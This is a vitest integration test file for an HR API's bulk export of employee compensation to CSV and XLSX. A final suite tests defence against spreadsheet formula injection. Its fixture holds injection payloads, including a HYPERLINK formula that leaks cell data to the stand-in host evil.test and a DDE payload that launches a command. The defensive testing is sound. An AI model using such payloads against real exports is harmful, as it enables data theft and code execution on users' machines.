import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { type TestCompany, type TestUser, bearer, createTestCompany, testDb } from '../../test/factories.js';
import { type ErrorBody, baseUrl, request } from '../../test/http.js';
import type { components } from '../contract-types.js';

type Job = components['schemas']['BackgroundJob'];
type Employee = components['schemas']['Employee'];
type Download = components['schemas']['Download'];

let company: TestCompany;

async function finished(user: TestUser, jobId: string): Promise<Job> {
  const deadline = Date.now() + 30_000;
  for (;;) {
    const reply = await request<{ data: Job }>(`/api/background-jobs/${jobId}`, { headers: bearer(user) });
    if (['succeeded', 'failed', 'cancelled'].includes(reply.body.data.status)) return reply.body.data;
    if (Date.now() > deadline) throw new Error(`job ${jobId} still ${reply.body.data.status}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

async function exportAs(user: TestUser, body: Record<string, unknown>): Promise<{ job: Job; file: Response }> {
  const started = await request<{ data: Job }>('/api/employees/compensation-exports', { method: 'POST', headers: bearer(user), json: body });
  expect(started.status).toBe(202);
  expect(started.body.data.type).toBe('employeeCompensationExport');
  const job = await finished(user, started.body.data.id);
  expect(job).toMatchObject({ status: 'succeeded', progress: 100 });
  return { job, file: await fetch(`${baseUrl()}/api/downloads/${job.downloadId}`, { headers: bearer(user) }) };
}

/** Every employee the API lists to this user, with the pay it shows. */
async function listed(user: TestUser): Promise<Employee[]> {
  const employees: Employee[] = [];
  let cursor: string | null = null;
  do {
    const reply: { body: { data: Employee[]; page: { nextCursor: string | null } } } = await request(`/api/employees?limit=2${cursor ? `&cursor=${cursor}` : ''}`, { headers: bearer(user) });
    employees.push(...reply.body.data);
    cursor = reply.body.page.nextCursor;
  } while (cursor);
  return employees;
}

const major = (money: { amount: number } | null | undefined): string => (money ? (money.amount / 100).toFixed(2) : '');

/** The export's columns for an employee, from what the API says about them. */
function expectedRow(employee: Employee, managerNumbers: Map<string, string>): Record<string, string> {
  const pay = employee.compensation;
  return {
    'Employee number': employee.employeeNumber,
    'First name': employee.firstName,
    'Last name': employee.lastName,
    Email: employee.email ?? '',
    'Manager employee number': employee.managerId ? (managerNumbers.get(employee.managerId) ?? '') : '',
    Currency: employee.currency,
    Status: employee.status,
    'Base salary': major(pay?.baseSalary?.amount),
    'Bonus target': major(pay?.bonusTarget?.amount),
    'Bonus target %': pay?.bonusTarget?.percentOfBase === null || pay?.bonusTarget?.percentOfBase === undefined ? '' : String(pay.bonusTarget.percentOfBase),
    'Variable pay': major(pay?.variablePay?.amount),
    Commission: major(pay?.commission?.amount),
    Benefits: major(pay?.benefits?.amount),
    'Total cash': major(pay?.totalCash),
  };
}

describe('the bulk download of employee compensation', () => {
  const ids: Record<string, string> = {};
  const numbers = new Map<string, string>();

  beforeAll(async () => {
    company = await createTestCompany(await testDb(), 'Bulk Pay Co');
    const admin = bearer(company.users.admin as TestUser);
    const hire = async (key: string, body: Record<string, unknown>, pay: [string, number, number | null][]) => {
      const reply = await request<{ data: Employee }>('/api/employees', { method: 'POST', headers: admin, json: { employeeNumber: `BP-${key}`, firstName: key, lastName: 'Payne, Jr.', ...body } });
      ids[key] = reply.body.data.id;
      numbers.set(reply.body.data.id, reply.body.data.employeeNumber);
      for (const [type, amount, percentOfBase] of pay) {
        const added = await request(`/api/employees/${reply.body.data.id}/compensation`, {
          method: 'POST',
          headers: admin,
          json: { type, amount: { amount, currency: reply.body.data.currency }, effectiveDate: '2024-04-01', ...(percentOfBase !== null ? { percentOfBase } : {}) },
        });
        expect(added.status).toBe(201);
      }
    };
    await hire('Boss', { title: 'CEO' }, [['base_salary', 300_000_00, null], ['bonus_target', 90_000_00, 30]]);
    await hire('Mgr', { managerId: ids.Boss, email: company.users.people_manager?.email, locationId: 'gb_london' }, [['base_salary', 95_000_00, null], ['benefits', 6_000_00, null]]);
    await hire('Rep', { managerId: ids.Mgr, locationId: 'gb_london' }, [['base_salary', 55_000_01, null], ['commission', 40_000_00, 72.73]]);
    await hire('New', { managerId: ids.Mgr }, []);
    await hire('Far', { managerId: ids.Boss, locationId: 'de_berlin' }, [['base_salary', 70_000_00, null], ['variable_pay', 5_000_00, null]]);
  });

  it('writes a CSV with exactly what the API shows of each employee in reach', async () => {
    const admin = company.users.admin as TestUser;
    const { job, file } = await exportAs(admin, { format: 'csv' });
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toContain('text/csv');
    const rows = parse(await file.text(), { columns: true }) as Record<string, string>[];
    const api = await listed(admin);
    expect(rows).toHaveLength(5);
    expect(rows.map((row) => row['Employee number'])).toEqual(api.map((employee) => employee.employeeNumber));
    api.forEach((employee, index) => expect(rows[index]).toMatchObject(expectedRow(employee, numbers)));
    expect(rows.find((row) => row['First name'] === 'Rep')).toMatchObject({ 'Base salary': '55000.01', Commission: '40000.00', 'Total cash': '95000.01', Currency: 'GBP', Location: 'London' });
    const meta = await request<{ data: Download }>(`/api/downloads/${job.downloadId}/metadata`, { headers: bearer(admin) });
    expect(meta.body.data).toMatchObject({ kind: 'employeeCompensationExport', filename: expect.stringMatching(/^employee-compensation-\d{4}-\d{2}-\d{2}\.csv$/) });
  });

  it('gives a people manager their own organisation only', async () => {
    const manager = company.users.people_manager as TestUser;
    const { job, file } = await exportAs(manager, { format: 'csv', asOf: '2024-04-01' });
    const rows = parse(await file.text(), { columns: true }) as Record<string, string>[];
    const api = await listed(manager);
    expect(rows.map((row) => row['First name']).sort()).toEqual(['Mgr', 'New', 'Rep']);
    expect(rows.map((row) => row['Employee number'])).toEqual(api.map((employee) => employee.employeeNumber));
    api.forEach((employee, index) => expect(rows[index]).toMatchObject(expectedRow(employee, numbers)));
    expect(rows.every((row) => row['Pay as of'] === '2024-04-01')).toBe(true);
    // Nobody else may fetch it unless their permission covers the whole company.
    expect((await request(`/api/downloads/${job.downloadId}`, { headers: bearer(company.users.employee as TestUser) })).status).toBe(404);
    expect((await request(`/api/downloads/${job.downloadId}`, { headers: bearer(company.users.analyst as TestUser) })).status).toBe(200);
  });

  it('writes pay before its effective date as empty', async () => {
    const { file } = await exportAs(company.users.admin as TestUser, { format: 'csv', asOf: '2024-03-31' });
    const rows = parse(await file.text(), { columns: true }) as Record<string, string>[];
    expect(rows.every((row) => row['Base salary'] === '' && row['Total cash'] === '')).toBe(true);
  });

  it('writes the same as XLSX, with numbers as numbers', async () => {
    const admin = company.users.admin as TestUser;
    const { file } = await exportAs(admin, { format: 'xlsx' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await file.arrayBuffer());
    const sheet = workbook.getWorksheet('Employee compensation');
    const header = (sheet?.getRow(1).values as unknown[]).slice(1);
    const records = [] as Record<string, unknown>[];
    sheet?.eachRow((row, index) => {
      if (index > 1) records.push(Object.fromEntries(header.map((name, i) => [String(name), (row.values as unknown[])[i + 1] ?? null])));
    });
    const api = await listed(admin);
    expect(records.map((row) => row['Employee number'])).toEqual(api.map((employee) => employee.employeeNumber));
    for (const [index, employee] of api.entries()) {
      const base = employee.compensation?.baseSalary?.amount.amount;
      expect(records[index]?.['Base salary']).toBe(base === undefined ? null : base / 100);
    }

    // Read in a spreadsheet as on screen: the header bold and frozen, columns wide enough, amounts
    // with their currency's format (two decimals and the code: pounds in London, dollars at head office), percentages as such, and
    // names rather than ids (London, not gb_london).
    const column = (name: string) => header.indexOf(name) + 1;
    expect(sheet?.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet?.getRow(1).font?.bold).toBe(true);
    expect(sheet?.getColumn(column('Base salary')).width).toBeGreaterThanOrEqual(13);
    const rep = sheet?.getRow(records.findIndex((row) => row['First name'] === 'Rep') + 2);
    expect(rep?.getCell(column('Base salary')).value).toBe(55_000.01);
    expect(rep?.getCell(column('Base salary')).numFmt).toBe('#,##0.00 "GBP"');
    expect(rep?.getCell(column('Location')).value).toBe('London');
    const boss = sheet?.getRow(records.findIndex((row) => row['First name'] === 'Boss') + 2);
    expect(boss?.getCell(column('Bonus target %')).value).toBe(30);
    expect(boss?.getCell(column('Total cash')).numFmt).toBe('#,##0.00 "USD"');
    expect(boss?.getCell(column('Bonus target %')).numFmt).toBe('0.00"%"');
    expect(boss?.getCell(column('Employee number')).numFmt).toBeUndefined();
  });

  it('is refused to people without the pay permission', async () => {
    const reply = await request<ErrorBody>('/api/employees/compensation-exports', { method: 'POST', headers: bearer(company.users.employee as TestUser), json: {} });
    expect(reply.status).toBe(403);
  });
});

/** Cells a spreadsheet would run as formulas, each in a field people type. */
const FORMULAS = {
  firstName: '=HYPERLINK("http://evil.test/?leak="&Q2)',
  lastName: '+SUM(1+1)',
  title: "-2+3+cmd|' /C calc'!A0",
  department: '@SUM(1,2)',
};

describe('the bulk download of names that look like formulas', () => {
  let admin: TestUser;
  beforeAll(async () => {
    const owner = await createTestCompany(await testDb(), 'Formula Names Co');
    admin = owner.users.admin as TestUser;
    const hired = await request<{ data: Employee }>('/api/employees', { method: 'POST', headers: bearer(admin), json: { employeeNumber: 'FX-1', currency: 'USD', ...FORMULAS } });
    expect(hired.status).toBe(201);
    const pay = await request(`/api/employees/${hired.body.data.id}/compensation`, {
      method: 'POST',
      headers: bearer(admin),
      json: { type: 'base_salary', amount: { amount: 120_000_00, currency: 'USD' }, effectiveDate: '2024-04-01' },
    });
    expect(pay.status).toBe(201);
  });

  it('writes them to CSV as text, with a leading apostrophe, and the pay as it is', async () => {
    const { file } = await exportAs(admin, { format: 'csv' });
    const raw = await file.text();
    const [row] = parse(raw, { columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({
      'First name': `'${FORMULAS.firstName}`,
      'Last name': `'${FORMULAS.lastName}`,
      Title: `'${FORMULAS.title}`,
      Department: `'${FORMULAS.department}`,
      'Base salary': '120000.00',
    });
    // No line of the file has a cell that starts with a formula character.
    for (const record of parse(raw) as string[][]) expect(record.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('writes them to XLSX as plain strings, never formulas', async () => {
    const { file } = await exportAs(admin, { format: 'xlsx' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await file.arrayBuffer());
    const sheet = workbook.getWorksheet('Employee compensation');
    const header = (sheet?.getRow(1).values as unknown[]).slice(1).map(String);
    const cell = (name: string) => sheet?.getRow(2).getCell(header.indexOf(name) + 1);
    for (const [column, value] of [['First name', FORMULAS.firstName], ['Last name', FORMULAS.lastName], ['Title', FORMULAS.title], ['Department', FORMULAS.department]] as const) {
      expect(cell(column)?.type).toBe(ExcelJS.ValueType.String);
      expect(cell(column)?.formula).toBeUndefined();
      expect(cell(column)?.value).toBe(value);
    }
    expect(cell('Base salary')?.value).toBe(120_000);
  });
});
